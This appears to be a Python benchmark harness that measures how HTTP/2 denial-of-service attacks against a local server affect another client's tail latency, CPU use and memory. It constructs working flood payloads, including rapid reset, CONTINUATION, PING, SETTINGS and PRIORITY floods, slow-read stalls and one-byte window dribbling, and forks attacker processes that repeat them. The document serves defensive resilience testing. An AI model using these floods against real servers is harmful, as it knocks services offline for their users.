"""What attacks over HTTP/2 cost another client: the 99th percentile of its answers, quiet and under each attack.

The worker has processor 0; the client, the server and the attackers share processor 1. As root, all of them run in real
time, attackers below the others, so that neither attackers nor other programs of this machine make the measured ones
wait: what is measured is the wait inside the worker. Otherwise attackers run only when the others rest (SCHED_IDLE). An
attacker that is told to go comes again at once, with a full handshake.
"""
import argparse, os, pathlib, signal, socket, ssl, time
import bystander, rig

PORT, SERVER, BULK_SERVER = (rig.free_port() for _ in range(3))
# Priorities in real time.
ATTACK, CONTROL = bystander.MEASURED - 1, bystander.MEASURED + 1


# MARK: frames (RFC 9113)

def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(stream, path=b"/1k", end_headers=True, method=b"GET"):
    section = literal(b":method", method) + literal(b":scheme", b"https") + literal(b":path", path)
    flags = (4 if end_headers else 0) | (1 if method == b"GET" else 0)
    return frame(1, flags, stream, section + literal(b":authority", b"localhost"))



PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4)
GO_AWAY = bytes([7, 0, 0, 0, 0, 0])
ODD = range(1, 100_001, 2)
FLOODS = {
    "rapid reset": b"".join(request(n) + frame(3, 0, n, bytes([0, 0, 0, 8])) for n in ODD[:500]),
    "CONTINUATION": request(1, end_headers=False) + b"".join(frame(9, 0, 1, literal(b"x", b"y")) for _ in range(200)),
    "large CONTINUATION": request(1, end_headers=False)
    + b"".join(frame(9, 0, 1, literal(b"x", b"y" * 120) * 120) for _ in range(20)),
    "PING": frame(6, payload=bytes(8)) * 500,
    "SETTINGS": frame(4) * 500,
    "PRIORITY": frame(2, 0, 3, bytes([0, 0, 0, 1, 9])) * 2000,
    "unknown frames": frame(0x42, payload=bytes(8)) * 500,
    "empty DATA": request(1, b"/100m", method=b"POST") + frame(0, 0, 1) * 500,
    # Here each attack uses up a connection to the server that the client is served by.
    "empty DATA, same server": request(1, method=b"POST") + frame(0, 0, 1) * 500,
}


# MARK: attackers, each a process of its own

def connect():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", PORT))
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return context.wrap_socket(raw)


def flood(content):
    """Sends it, and reads until it is told to go."""
    with connect() as connection:
        connection.sendall(PREFACE + content)
        while (data := connection.recv(65_536)) and GO_AWAY not in data:
            pass


def stall():
    """Fifty streams of 100 MB that are never read: as much as the windows let through waits in the worker."""
    with connect() as connection:
        connection.sendall(PREFACE + b"".join(request(n, b"/100m") for n in ODD[:50]))
        connection.settimeout(2)
        time.sleep(1)
        try:
            while connection.recv(1024):
                time.sleep(0.05)
        except TimeoutError:
            pass


def dribble():
    """Fifty streams of 100 MB whose windows are opened byte by byte."""
    with connect() as connection:
        connection.sendall(PREFACE[:24] + frame(4, payload=bytes([0, 4, 0, 0, 0, 0])))
        connection.sendall(b"".join(request(n, b"/100m") for n in ODD[:50]))
        connection.setblocking(False)
        more = b"".join(frame(8, 0, n, (1).to_bytes(4, "big")) for n in ODD[:50])
        pending = b""
        while True:
            pending = pending or more
            try:
                pending = pending[connection.send(pending):]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                time.sleep(0.001)
            try:
                while data := connection.recv(65_536):
                    if GO_AWAY in data:
                        return
                return
            except ssl.SSLWantReadError:
                pass


ATTACKS = {
    "handshakes": lambda: connect().close(),
    **{name: lambda content=content: flood(content) for name, content in FLOODS.items()},
    "slow read": stall,
    "windows of a byte": dribble,
}


class Attacker:
    """A process that attacks again and again until it is ended."""

    def __init__(self, name):
        reading, writing = os.pipe()
        self.reports = os.fdopen(reading, "rb")
        self.pid = os.fork()
        if self.pid == 0:
            try:
                self.attack(ATTACKS[name], writing)
            finally:
                os._exit(1)
        os.close(writing)

    @staticmethod
    def attack(once, reports):
        signal.alarm(60)
        os.sched_setaffinity(0, {rig.LOAD_CPU})
        if os.geteuid() == 0:
            os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(ATTACK))
        else:
            os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
        while True:
            try:
                once()
            except OSError:
                pass
            os.write(reports, b".")

    def end(self):
        """How many attacks it came to."""
        os.kill(self.pid, signal.SIGKILL)
        os.waitpid(self.pid, 0)
        return len(self.reports.read())


# MARK: the measurement

class Measurement(bystander.Bystander):
    def __init__(self, bench, arguments):
        super().__init__(bench, arguments, PORT, SERVER, BULK_SERVER, ["[server.timeouts]\nwrite = \"3s\""])
        if os.geteuid() == 0:
            # This program has to be able to end the attackers.
            os.sched_setscheduler(0, os.SCHED_FIFO | os.SCHED_RESET_ON_FORK, os.sched_param(CONTROL))

    def under(self, name):
        """p50 and p99 of the client, attacks a second, the worker's share of its processor, its peak memory in KiB."""
        pathlib.Path(f"/proc/{self.worker}/clear_refs").write_text("5")
        start, before = time.monotonic(), rig.cpu_seconds(self.worker)
        attackers = [Attacker(name) for _ in range(self.arguments.attackers if name else 0)]
        times = self.client()
        elapsed, used = time.monotonic() - start, rig.cpu_seconds(self.worker) - before
        done = sum(attacker.end() for attacker in attackers)
        return (
            rig.percentile(times, 0.5), rig.percentile(times, 0.99), done / elapsed, 100 * used / elapsed,
            rig.status(self.worker, "VmHWM"),
        )


def main():
    arguments = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    arguments.add_argument("--rounds", type=int, default=3)
    arguments.add_argument("--seconds", type=float, default=2)
    arguments.add_argument("--rate", type=int, default=500, help="requests a second of the client that is measured")
    arguments.add_argument("--attackers", type=int, default=4)
    arguments.add_argument("--only", help="attacks, separated by commas")
    arguments = arguments.parse_args()
    names = arguments.only.split(",") if arguments.only else list(ATTACKS)
    results = {name: [] for name in [None, *names]}
    with rig.Rig() as bench:
        measurement = Measurement(bench, arguments)
        measurement.client()
        for _ in range(arguments.rounds):
            for name in names:
                results[None].append(measurement.under(None))
                results[name].append(measurement.under(name))
    quiet = rig.median(row[1] for row in results[None])
    print("| attack | p50 µs | p99 µs | ratio | attacks a second | worker's CPU | worker's peak memory, KiB |")
    print("|---|---|---|---|---|---|---|")
    for name, rows in results.items():
        p50, p99, rate, cpu, memory = (rig.median(row[index] for row in rows) for index in range(5))
        print(f"| {name or 'none'} | {p50:.0f} | {p99:.0f} | {p99 / quiet:.2f} | {rate:.0f} | {cpu:.0f} % | {memory} |")
    spread = sorted(row[1] for row in results[None])
    print(f"\nquiet p99: {spread[0]} to {spread[-1]} µs in {len(spread)} measurements; load average {os.getloadavg()[0]:.1f}")


if __name__ == "__main__":
    main()
